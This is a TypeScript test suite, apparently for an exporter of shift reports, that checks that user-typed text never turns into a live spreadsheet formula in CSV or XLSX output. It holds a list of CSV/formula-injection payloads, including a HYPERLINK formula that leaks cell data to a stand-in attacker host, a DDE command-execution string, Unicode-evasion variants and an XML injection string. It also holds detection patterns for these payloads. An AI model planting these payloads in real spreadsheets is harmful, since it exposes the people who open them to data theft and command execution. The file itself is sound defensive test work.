import assert from 'node:assert/strict'
import { test } from 'node:test'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { rowsOfWorksheet, unzip } from '../../test/unzip.ts'
import { catalogue } from '../words/catalogue.ts'
import { languages } from '../words/say.ts'
import { paperKinds, writePaper } from './paper.ts'
import { markLine, takingNumber, takingReasons, type Paper } from './sheet.ts'

const id = '0199c1d0-1111-7222-8333-abcdef012345'
const at = new Date('2026-11-23T02:20:00Z')
const names = ['Әйгерім Құдайбергенқызы', 'Ұлжан Һәкімова', 'Өміржан Іңкәров', "O'Brien; «Ж» & <b>"]
/** What has been used against people who open somebody else's table, and some ways round the usual guard. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '\u00AD=1+1',
  '\u2060\u200D=1+1',
  '\u3164=1+1',
  '\u0000=1+1',
  '\u001F=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '\u22121+1',
  '\uFE66' + '1+1',
  '|calc',
  '%0A=1',
  '";=1+1;"',
  'a";=1+1;"b',
  'a\r\n=1+1',
  'a;=1+1',
  'a,=1+1',
  '_x003D_1+1',
  '_x000D_=1',
  '</t></is></c><c><f>1+1</f></c><c t="inlineStr"><is><t>',
  ']]>&lt;f&gt;<![CDATA[',
  '\uD800=1',
]
const paperWith = (cells: readonly string[], lang: Paper['lang'] = 'kk'): Paper => ({
  template: 'shift-summary',
  lang,
  title: 'Ауысым қорытындысы',
  notes: ['=1+1 деп басталатын ескерту'],
  sheets: [
    {
      name: 'Арналар: [тіл]/түр',
      columns: [
        { label: '=атауы', kind: 'text', holds: 'state' },
        { label: 'Саны', kind: 'number', holds: 'count' },
        { label: 'Үлесі', kind: 'share', holds: 'count' },
        { label: 'Күтуі', kind: 'duration', holds: 'time' },
        { label: 'Күні', kind: 'day', holds: 'time' },
        { label: 'Уақыты', kind: 'moment', holds: 'time' },
      ],
      rows: [
        ...cells.map(cell => [cell, -3, 0.125, 3_723_000, '2026-11-23', at] as const),
        ['бос', null, null, null, null, null],
      ],
    },
  ],
  mark: { who: '=Әсем Нұрланова', at, reason: 'handover', number: takingNumber(id) },
})

// A reader of CSV that knows nothing of ours: fields in quotation marks or bare, `;` between them, line ends.
function fieldsOf(text: string): { text: string; quoted: boolean }[][] {
  const rows: { text: string; quoted: boolean }[][] = [[]]
  for (let i = 0; i < text.length;) {
    const row = rows.at(-1) as { text: string; quoted: boolean }[]
    const field = { text: '', quoted: text[i] === '"' }
    if (field.quoted) {
      for (i++; i < text.length && (text[i] !== '"' || text[i + 1] === '"'); i++) {
        if (text[i] === '"') i++
        field.text += text[i]
      }
      i++
    } else while (i < text.length && text[i] !== ';' && text[i] !== '\r') field.text += text[i++]
    row.push(field)
    if (text[i] === ';') i++
    else if (text.startsWith('\r\n', i)) {
      i += 2
      if (i < text.length) rows.push([])
    } else if (i < text.length) throw new Error(`something stands behind a field: ${text.slice(i, i + 20)}`)
  }
  return rows
}
/** Cells that some spreadsheet would calculate: it looks past white space and what nobody sees, and takes full-width signs for plain ones. */
function calculated(csv: string): string[] {
  return fieldsOf(csv.replace(/^\uFEFF/, ''))
    .flat()
    .filter(({ text, quoted }) => {
      if (!quoted && /^-?[\d,.:]*$/.test(text)) return false
      const seen = text.replace(/^[\s\p{C}\u3164\u2800]+/u, '').normalize('NFKC')
      return /^[=+\-@|%\u2212]/.test(seen) || /[\t\r\n]/.test(text)
    })
    .map(({ text }) => text)
}
/** What a spreadsheet file may not hold. */
function forbidden(parts: Map<string, string>): string[] {
  return [...parts].flatMap(([name, xml]) => [
    ...(/<f[\s>/]|<definedName|state="(very)?[hH]idden"|hidden="1"|<externalLink|<hyperlink|<dataValidation|<script/.test(
      xml,
    )
      ? [`${name}: a formula, something hidden or a link`]
      : []),
    ...(/pivot|vba|externalLinks|connections|docProps|comments|customXml|calcChain|embeddings/i.test(name)
      ? [`${name} should not be there`]
      : []),
  ])
}

test('no text that somebody typed becomes a formula in a table of values with semicolons, and numbers stay numbers', async () => {
  const { bytes } = await writePaper('csv', 'shift', paperWith([...payloads, ...names]))
  const csv = Buffer.from(bytes).toString('utf8')
  assert.equal(csv.codePointAt(0), 0xfeff)
  assert.deepEqual(calculated(csv), [])
  const rows = fieldsOf(csv.slice(1))
  assert.equal(rows.filter(row => row.length === 6).length, payloads.length + names.length + 2)
  assert.equal(rows[1]?.[1]?.text, '-3')
  assert.equal(rows[1]?.[2]?.text, '0,125')
  assert.equal(rows[1]?.[3]?.text, '1:02:03')
  for (const name of names)
    assert.ok(
      rows.some(row => row[0]?.text === name),
      name,
    )
  assert.match(rows.at(-1)?.[0]?.text ?? '', /№ ABCD-EF01-2345$/)
})

test('a spreadsheet holds values only: no formula, nothing hidden, no link and not a word about who made the file', async () => {
  const { bytes, filename } = await writePaper('xlsx', 'shift', paperWith([...payloads, ...names]))
  assert.equal(filename, 'shift-2026-11-23-ABCD-EF01-2345.xlsx')
  const parts = unzip(bytes)
  assert.deepEqual(forbidden(parts), [])
  assert.deepEqual([...parts.keys()].toSorted(), [
    '[Content_Types].xml',
    '_rels/.rels',
    'xl/_rels/workbook.xml.rels',
    'xl/styles.xml',
    'xl/workbook.xml',
    'xl/worksheets/sheet1.xml',
  ])
  const xml = parts.get('xl/worksheets/sheet1.xml') ?? ''
  const rows = rowsOfWorksheet(xml)
  for (const name of names)
    assert.ok(
      rows.some(row => row[0] === name),
      name,
    )
  assert.ok(
    rows.some(row => row[0] === '_x003D_1+1'),
    'what looks like a coded letter is read as it was written',
  )
  const first = rows.find(row => row[0] === '=1+1' && row.length === 6)
  assert.deepEqual(first?.slice(1, 5), ['-3', '0.125', '0.043090278', '46349'])
  assert.equal(first?.[5], String(Number((46349 + (7 * 60 + 20) / 1440).toFixed(9))), 'moments stand in UTC+5')
  assert.equal(xml.match(/t="inlineStr"/g)?.length, xml.match(/<is>/g)?.length)
  assert.match(rows.at(-1)?.[0] ?? '', /ауысымды тапсыру/)
  assert.deepEqual(bytes, (await writePaper('xlsx', 'shift', paperWith([...payloads, ...names]))).bytes)
})

test('the control: careless writers are caught by the same readers', async () => {
  assert.notDeepEqual(calculated(`a;b\r\n"=1+1";2\r\n`), [])
  for (const payload of ['\u200B=1', '\uFF1D1', '"\t=1"', '"a\r\n=1"'])
    assert.notDeepEqual(calculated(`${payload};1\r\n`), [], payload)
  const { bytes } = await writePaper('xlsx', 'shift', paperWith(['a']))
  const parts = unzip(bytes)
  const planted = new Map(parts)
  planted.set(
    'xl/worksheets/sheet1.xml',
    (parts.get('xl/worksheets/sheet1.xml') ?? '').replace('<v>-3</v>', '<f>1+1</f>'),
  )
  assert.notDeepEqual(forbidden(planted), [])
  for (const extra of ['docProps/core.xml', 'xl/pivotCache/pivotCacheRecords1.xml'])
    assert.notDeepEqual(forbidden(new Map([...parts, [extra, '']])), [])
  assert.notDeepEqual(forbidden(new Map([['xl/workbook.xml', '<sheet name="a" state="hidden"/>']])), [])
  assert.throws(() => unzip(Buffer.concat([bytes.subarray(0, 80), Buffer.from('x'), bytes.subarray(81)])))
})

test('a very long text, two sheets of one name and a name that spreadsheets forbid do not make a broken file', async () => {
  const one = paperWith(['ә'.repeat(40_000), '😀'.repeat(20_000)])
  const sheet = one.sheets[0] as Paper['sheets'][number]
  const { bytes } = await writePaper('xlsx', 'x', { ...one, sheets: [sheet, sheet, { ...sheet, name: '' }] })
  const parts = unzip(bytes)
  const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/sheet name="([^"]*)"/g)].map(m => m[1] ?? '')
  assert.equal(new Set(names).size, 3)
  for (const name of names) assert.ok(name.length > 0 && name.length <= 31 && !/[[\]:*?/\\]/.test(name), name)
  const cells = rowsOfWorksheet(parts.get('xl/worksheets/sheet2.xml') ?? '').flat()
  assert.ok(cells.every(cell => cell.length <= 32_767 && !/\p{Cs}/u.test(cell)))
  await assert.rejects(writePaper('csv', 'x', { ...one, sheets: [{ ...sheet, rows: [['short']] }] }), /length/)
})

test('every file says who took it, when, what for and under which number, in three languages, on each page of a PDF', async () => {
  for (const lang of languages) {
    const paper = paperWith(
      Array.from({ length: 60 }, (_, i) => `${names[i % 3]} ${i}`),
      lang,
    )
    const mark = markLine(paper)
    const { bytes } = await writePaper('pdf', 'shift', paper)
    const pdf = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise
    assert.ok(pdf.numPages > 1)
    for (let page = 1; page <= pdf.numPages; page++) {
      const { items } = await (await pdf.getPage(page)).getTextContent()
      const text = items
        .map(item => ('str' in item ? item.str : ''))
        .join('')
        .replace(/\s+/g, '')
      assert.ok(text.includes(mark.replace(/\s+/g, '')), `${lang}, page ${page}`)
      if (page === 1) assert.ok(text.includes('ӘйгерімҚұдайбергенқызы0'))
    }
    await pdf.loadingTask.destroy()
  }
  for (const reason of takingReasons) assert.ok(catalogue[`papers.reason.${reason}`].kk.length > 0)
  assert.equal(paperKinds.length, 3)
})
